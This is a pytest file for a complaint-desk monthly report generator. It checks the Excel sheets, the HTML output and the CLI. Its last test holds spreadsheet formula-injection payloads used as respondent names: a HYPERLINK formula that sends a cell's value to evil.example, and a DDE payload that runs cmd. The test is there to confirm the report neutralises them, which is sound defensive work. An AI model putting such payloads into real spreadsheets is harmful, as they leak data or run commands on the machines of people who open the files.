"""The monthly report: the workbook opened and checked cell by cell, the HTML page's figures,
and `complaint-desk report` writing both files."""

from __future__ import annotations

import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cases.rules import Rules
from cases.views.report import NO_UNIT, build_monthly_report, render_html, write_report
from cases.views.stats import Count
from tests.cases.test_stats import OTHER, Month
from tests.factories import make_case
from tests.test_cli import run

NOW = datetime(2026, 12, 1, 2, 0, tzinfo=UTC)  # 1 Dec 10:00 Shanghai


async def test_workbook_cell_by_cell(store: Rules, tmp_path: Path) -> None:
    world = await Month().build(store)
    data = await build_monthly_report(store, date(2026, 11, 1), NOW)
    xlsx, html = write_report(data, tmp_path / "out")
    assert xlsx.name == "report-2026-11.xlsx" and html.name == "report-2026-11.html"
    wb = load_workbook(xlsx)
    assert wb.sheetnames == ["汇总", "各单位", "热点", "超期"]

    s = wb["汇总"]
    assert s["A1"].value == "县市场监督管理局投诉举报中心 2026年11月投诉举报统计月报"
    assert s["A2"].value == ("统计期间 2026-11-01 00:00 至 2026-12-01 00:00(不含);本月登记 6 件")
    assert [c.value for c in s[3]] == ["指标", "数值", "分子", "分母", "计算公式", "说明"]
    expected = [
        ("受理率", 0.8, 4, 5),
        ("按期受理率", 4 / 7, 4, 7),
        ("办结率", 0.75, 3, 4),
        ("按期办结率", 2 / 3, 2, 3),
        ("响应率", 0.5, 2, 4),
        ("解决率", "无数据", None, None),
        ("满意率", 2 / 3, 2, 3),
        ("参评率", 0.0, 0, 3),
        ("重复投诉率", 2 / 6, 2, 6),
        ("举报查实率", "—", 0, 0),
        ("投诉转案率", 0.25, 1, 4),
        ("调解成功率", 0.5, 1, 2),
    ]
    for row, (name, value, n, d) in enumerate(expected, start=4):
        assert s.cell(row, 1).value == name
        if isinstance(value, float):
            assert s.cell(row, 2).value == pytest.approx(value)
            assert s.cell(row, 2).number_format == "0.0%"
        else:
            assert s.cell(row, 2).value == value
            assert bool(s.cell(row, 6).value) == (value == "无数据")  # why there is no data
        assert (s.cell(row, 3).value, s.cell(row, 4).value) == (n, d)
        assert str(s.cell(row, 5).value).startswith(f"{name} = ")
    assert [c.value for c in s[17]] == ["按类型", "件数", None, None, None, None]
    assert [s.cell(18, 1).value, s.cell(18, 2).value] == ["投诉", 6]
    assert [s.cell(21, 1).value, s.cell(21, 2).value] == ["公众号", 6]

    u = wb["各单位"]
    assert [c.value for c in u[1]] == [
        "单位",
        "本月登记",
        "办结率",
        "按期办结率",
        "响应率",
        "满意率",
        "超期在办",
    ]
    rows = {r[0].value: [c.value for c in r[1:]] for r in u.iter_rows(min_row=2)}
    assert list(rows)[:6] == [
        "消费者权益保护科",
        "质量监督科",
        "食品安全监管科",
        "药品医疗器械监管科",
        "综合行政执法大队",
        "城关市场监管所",
    ]
    filed, closure, on_time, response, satisfaction, overdue = rows["消费者权益保护科"]
    assert filed == 4 and overdue == 1  # C: its return window ran out
    assert closure == pytest.approx(0.75) and on_time == pytest.approx(2 / 3)
    assert response == pytest.approx(0.5) and satisfaction == pytest.approx(2 / 3)
    assert rows["质量监督科"] == [0, "—", "—", "—", "—", 0]  # nothing to divide by
    assert rows[NO_UNIT][0] == 2 and rows[NO_UNIT][-1] == 2  # D, E filed; E, F overdue

    h = wb["热点"]
    assert [[c.value for c in r] for r in h.iter_rows(max_col=4)] == [
        ["被投诉对象", "本月件数", None, None],
        ["城东便民超市", 4, None, None],
        [OTHER, 2, None, None],
        [None, None, None, None],
        ["类别", "本月件数", None, None],
        ["消费维权", 5, None, None],
        ["食品安全", 1, None, None],
        [None, None, None, None],
        ["上升最快的被投诉对象", "本月", "上月", "增加"],
        ["城东便民超市", 4, 1, 3],
        [OTHER, 2, 0, 2],
        [None, None, None, None],
        ["上升最快的类别", "本月", "上月", "增加"],
        ["消费维权", 5, 1, 4],
        ["食品安全", 1, 0, 1],
    ]

    late = wb["超期"]
    assert late["A1"].value == "截至 2026-12-01 10:00 仍在办理且已超期的案件"
    assert [c.value for c in late[2]] == [
        "案件编号",
        "类型",
        "类别",
        "承办单位",
        "被投诉对象",
        "期限",
        "超期天数",
    ]
    listed = {r[0].value: [c.value for c in r] for r in late.iter_rows(min_row=3)}
    assert set(listed) == {world.c.number, world.e.number, world.f.number}
    c_row = listed[world.c.number]
    assert c_row[1:5] == ["投诉", "消费维权", "消费者权益保护科", OTHER]
    # Assigned Fri 20 Nov: one working day to respond, i.e. to the end of Mon 23 Nov.
    assert c_row[5:] == ["2026-11-23 24:00", 7]  # a day-based deadline, as the console says

    page = html.read_text(encoding="utf-8")
    assert page == render_html(data)
    for text in (
        "2026年11月投诉举报统计月报",
        "80.0%",
        "4/5",
        "66.7%",
        "2/3",
        "无数据",
        "满意率 = 本期收到的已受理投诉办结评价中(满意 + 基本满意)的份数 ÷ 本期收到的已受理投诉办结评价份数",
        "城东便民超市",
        world.c.number,
        "@media print",
    ):
        assert text in page, text
    assert "http://" not in page and "https://" not in page and "<script" not in page


@pytest.mark.slow
def test_cli_writes_both_files(tmp_path: Path) -> None:
    assert run(tmp_path, "migrate").returncode == 0
    bad = run(tmp_path, "report", "--month", "2026-13")
    assert bad.returncode == 2
    assert bad.stderr == "error: --month must be YYYY-MM, got '2026-13'\n"
    done = run(tmp_path, "report", "--month", "2026-11", "--out", "reports")
    assert done.returncode == 0, done.stderr
    out = tmp_path / "reports"
    assert sorted(p.name for p in out.iterdir()) == ["report-2026-11.html", "report-2026-11.xlsx"]
    assert done.stdout == (
        f"wrote {Path('reports/report-2026-11.xlsx')} and {Path('reports/report-2026-11.html')}\n"
    )
    wb = load_workbook(out / "report-2026-11.xlsx")
    assert wb["汇总"]["A4"].value == "受理率" and wb["汇总"]["B4"].value == "—"


INJECTIONS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
)


async def test_citizen_text_is_written_as_text_never_as_a_formula(
    store: Rules, tmp_path: Path
) -> None:
    """Issue 15, item 1: respondents named like formulas stay text (OWASP CSV injection);
    the counts beside them stay numbers."""
    for name in INJECTIONS:
        await make_case(store, now=datetime(2026, 11, 10, 2, tzinfo=UTC), respondent_name=name)
    data = await build_monthly_report(store, date(2026, 11, 1), NOW)
    # Tab and CR cannot reach a respondent (control characters are dropped at intake).
    extra = [Count("tab", "\t=1+1", 1), Count("cr", "\r=1+1", 1)]
    data = replace(data, top_categories=[*data.top_categories, *extra])
    xlsx, _ = write_report(data, tmp_path / "out")

    with zipfile.ZipFile(xlsx) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
    hot = load_workbook(xlsx)["热点"]
    cells = {c.value: c for row in hot.iter_rows() for c in row if c.value is not None}
    for text in (*INJECTIONS, "\t=1+1", "\n=1+1"):  # XML reads a CR back as LF
        cell = cells[text]
        assert (cell.data_type, cell.quotePrefix) == ("s", True), text
        count = hot.cell(cell.row, 2)
        assert (count.value, count.data_type) == (1, "n")
    assert cells["被投诉对象"].quotePrefix is False  # plain text gets no prefix
